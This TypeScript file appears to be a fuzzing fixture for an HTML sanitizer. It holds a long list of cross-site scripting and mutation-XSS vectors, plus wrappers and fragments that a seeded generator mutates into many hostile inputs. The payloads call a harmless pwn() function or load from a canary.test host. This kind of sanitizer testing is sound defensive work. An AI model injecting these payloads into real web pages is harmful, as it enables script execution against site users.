/**
 * Hostile HTML, the same on every run: known vectors of cross-site scripting and of mutation (mXSS), each changed in
 * many ways, and pieces put together by chance. Whatever runs calls `pwn()` or asks for something at `canary.test`.
 */

const VECTORS = [
  '<script>pwn()</script>',
  '<script src=//canary.test/a.js></script>',
  '<script/x>pwn()</script >',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<img src=x onerror=pwn()>',
  '<img src="x" onerror="pwn()" />',
  '<img/src=x/onerror=pwn()//',
  '<img src=//canary.test/i.png>',
  '<img srcset="//canary.test/i.png 1x">',
  '<img src=`x` onerror=`pwn()`>',
  '<img """><script>pwn()</script>">',
  '<image href=//canary.test/a onerror=pwn()>',
  '<svg onload=pwn()>',
  '<svg/onload=pwn()//',
  '<svg><script>pwn()</script></svg>',
  '<svg><script href=//canary.test/s.js /></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><set onbegin=pwn()>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></foreignObject></svg>',
  '<svg><a xlink:href="javascript:pwn()"><text y=20>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  '<svg><style><img src=x onerror=pwn()></style></svg>',
  '<svg><p><style><!--</style><img src=x onerror=pwn()>--></style>',
  '<svg><desc><table><svg><mtext><style><img src=x onerror=pwn()></style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  '<math><mtext><table><mglyph><style><math><img src onerror=pwn()>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
  '<math><annotation-xml encoding="text/html"><style><img src onerror=pwn()></style></annotation-xml></math>',
  '<math><mi//xlink:href="data:x,<script>pwn()</script>">',
  '<math href="javascript:pwn()">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<noscript><style></noscript><img src=x onerror=pwn()></style>',
  '<title><a title="</title><img src=x onerror=pwn()>">',
  '<textarea><a title="</textarea><img src=x onerror=pwn()>">',
  '<xmp><p title="</xmp><svg/onload=pwn()>">',
  '<noembed><p title="</noembed><svg/onload=pwn()>">',
  '<noframes><p title="</noframes><svg/onload=pwn()>">',
  '<plaintext></plaintext><img src=x onerror=pwn()>',
  '<listing>&lt;img src=x onerror=pwn()&gt;</listing>',
  '<template><img src=x onerror=pwn()></template>',
  '<template shadowrootmode=open><img src=x onerror=pwn()></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwn()>">',
  '<iframe src="javascript:parent.pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<iframe src=//canary.test/f></iframe>',
  '<iframe onload=pwn()></iframe>',
  '<frameset onload=pwn()>',
  '<object data="javascript:pwn()">',
  '<object data=//canary.test/o></object>',
  '<embed src=//canary.test/e onload=pwn()>',
  '<link rel=stylesheet href=//canary.test/l.css>',
  '<link rel=preload as=image href=//canary.test/p.png>',
  '<meta http-equiv=refresh content="0;url=//canary.test/m">',
  '<base href=//canary.test/>',
  '<style>@import "//canary.test/c.css";</style>',
  '<style>*{background:url(//canary.test/bg)}</style>',
  '<p style="background:url(//canary.test/bg)">x',
  '<p style="x:expression(pwn())">x',
  '<p class="ql-align-center" style="background-image:url(//canary.test/bg);text-align:center">x',
  '<p class="x onclick=pwn()">x',
  "<p class='\"><script>pwn()</script>'>x",
  '<body onload=pwn()>',
  '<body background=//canary.test/b>',
  '<html onmouseover=pwn()>',
  '<input autofocus onfocus=pwn()>',
  '<input type=image src=//canary.test/i onerror=pwn()>',
  '<select autofocus onfocus=pwn()>',
  '<textarea autofocus onfocus=pwn()>',
  '<button autofocus onfocus=pwn()>',
  '<p contenteditable autofocus onfocus=pwn()>',
  '<p tabindex=0 autofocus onfocus=pwn()>',
  '<details open ontoggle=pwn()>',
  '<p popover id=x onbeforetoggle=pwn()><button popovertarget=x autofocus>',
  '<video src=x onerror=pwn()></video>',
  '<video poster=//canary.test/p></video>',
  '<video><source onerror=pwn()></video>',
  '<audio src=x onerror=pwn()>',
  '<audio autoplay src=//canary.test/a>',
  '<track src=//canary.test/t>',
  '<marquee onstart=pwn()>x</marquee>',
  '<p onanimationstart=pwn() style="animation:a 1s">x<style>@keyframes a{}</style>',
  '<p onclick=pwn() onpointerover=pwn()>x',
  '<strong onmouseenter=pwn()>x</strong>',
  '<li onfocusin=pwn() tabindex=1 autofocus>x',
  '<a href="javascript:pwn()" autofocus onfocus=pwn()>x</a>',
  '<a href="java\tscript:pwn()">x</a>',
  '<a href="&#106;avascript:pwn()">x</a>',
  '<a href="data:text/html,<script>opener.pwn()</script>">x</a>',
  '<a ping=//canary.test/p href=#x>x</a>',
  '<form action="javascript:pwn()"><button autofocus onfocus=form.submit()>',
  '<form id=x></form><button form=x formaction="javascript:pwn()" autofocus onfocus=click()>',
  '<isindex type=image src=1 onerror=pwn()>',
  '<table background=//canary.test/t><td background=//canary.test/d>x',
  '<x onclick=pwn() tabindex=1 id=x autofocus onfocus=pwn()>',
  '<x-y onconnected=pwn()><img src=x onerror=pwn()></x-y>',
  '<!--><img src=x onerror=pwn()>-->',
  '<!--x--!><img src=x onerror=pwn()>',
  '<!-- --\u00a0><img src=x onerror=pwn()>',
  '<![CDATA[<img src=x onerror=pwn()>]]>',
  '<svg><![CDATA[><image href=x onerror=pwn()>]]></svg>',
  '<?xml-stylesheet href="//canary.test/x"?><img src=x onerror=pwn()>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=pwn()>">]>&y;',
  '</p><img src=x onerror=pwn()>',
  '</script><script>pwn()</script>',
  '</div></article></main><script>pwn()</script>',
  '"></p><script>pwn()</script>',
  "'><script>pwn()</script>",
  '--></script><img src=x onerror=pwn()>',
  '\\u003cimg src=x onerror=pwn()\\u003e',
  '&lt;img src=x onerror=pwn()&gt;',
  '&amp;lt;img src=x onerror=pwn()&amp;gt;',
  '&#60;img src=x onerror=pwn()&#62;',
  '&#x3c;script&#x3e;pwn()&#x3c;/script&#x3e;',
  '&lt&NewLine;img src=x onerror=pwn()&gt',
  '%3Cimg src=x onerror=pwn()%3E',
  '\uff1cimg src=x onerror=pwn()\uff1e',
  '\u2028<img src=x onerror=pwn()>\u2029',
  '{{constructor.constructor("pwn()")()}}',
  '${pwn()}',
  '<p><table><p><svg><p><math><p><img src=x onerror=pwn()>',
  '<ul><li><ul></li></ul><img src=x onerror=pwn()></ul>',
  '<p><ol><p></ol></p><svg/onload=pwn()></p>',
  '<strong><p></strong><em></p></em><img src=x onerror=pwn()>',
  '<b><i><u></b></i></u><img src=x onerror=pwn()>',
  '<a><a><a></a></a><img src=x onerror=pwn()></a>',
] as const

const WRAPS: readonly (readonly [string, string])[] = [
  ['<p>', '</p>'],
  ['<ul><li>', '</li></ul>'],
  ['<ol><li class="ql-align-right">', '</li></ol>'],
  ['<svg>', '</svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<style>', '</style>'],
  ['<svg><style>', '</style></svg>'],
  ['<noscript>', '</noscript>'],
  ['<title>', '</title>'],
  ['<textarea>', '</textarea>'],
  ['<template>', '</template>'],
  ['<select>', '</select>'],
  ['<table><tr><td>', '</td></tr></table>'],
  ['<table>', '</table>'],
  ['<form><p><form>', '</form>'],
  ['<!--', '-->'],
  ['<p title="', '">'],
  ["<p class='", "'>"],
  ['<strong><em><u>', '</u></em></strong>'],
  ['<p>'.repeat(30), ''],
  ['<strong>'.repeat(600), ''],
  ['<div align=center style="text-align:center">', '</div>'],
]

const PIECES = (
  '<p|<li|<img|<svg|<math|<style|<script|<a|<mtext|<table|<template|<x| onerror=pwn()| onload="pwn()"| src=x|' +
  ' class="ql-align-center| href=javascript:pwn()|>|/>|</p>|</style>|</script>|</svg>|</|<|"|\'|`|=| |\n|\0|' +
  '<!--|-->|--!>|<![CDATA[|]]>|&lt;|&gt;|&quot;|&#x3c;|&amp;|pwn()|x'
).split('|')

/** Numbers of 0 to below 1, the same on every run (mulberry32). */
function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

/** @returns `count` different texts, the plain vectors first */
export function buildHtmlHostil(count: number): readonly string[] {
  const random = seeded(2026)
  const pick = <T>(list: readonly T[]): T => {
    const found = list[Math.floor(random() * list.length)]
    if (found === undefined) throw new Error('nothing to pick from')
    return found
  }
  const at = (text: string) => Math.floor(random() * (text.length + 1))
  const insert = (text: string, piece: string) => {
    const place = at(text)
    return text.slice(0, place) + piece + text.slice(place)
  }
  const changes: readonly ((text: string) => string)[] = [
    (text) => {
      const [before, after] = pick(WRAPS)
      return before + text + after
    },
    (text) => text + pick(VECTORS),
    (text) => insert(text, pick(PIECES)),
    (text) => insert(text, pick(VECTORS)),
    (text) => text.slice(0, at(text)) || 'x',
    (text) => text.replaceAll(/[a-z]/g, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter)),
    (text) => text.replaceAll(' ', pick(['/', '\t', '\n', '\f', '//', ' \u0000'])),
    (text) => text.replaceAll('=', pick([' = ', '\n=', '="'])),
    (text) => text.replaceAll('<', pick(['<<', '&lt;', '<\u0000', '< '])),
    (text) => text.replaceAll('>', pick(['', '>>', ' >', '&gt;'])),
  ]
  const seen = new Set<string>(VECTORS)
  while (seen.size < count) {
    let text: string =
      random() < 0.7 ? pick(VECTORS) : Array.from({ length: 12 }, () => pick(PIECES)).join('')
    for (let times = Math.floor(random() * 3) + 1; times > 0; times -= 1) text = pick(changes)(text)
    if (/[a-z]/i.test(text)) seen.add(text)
  }
  return [...seen].slice(0, count)
}
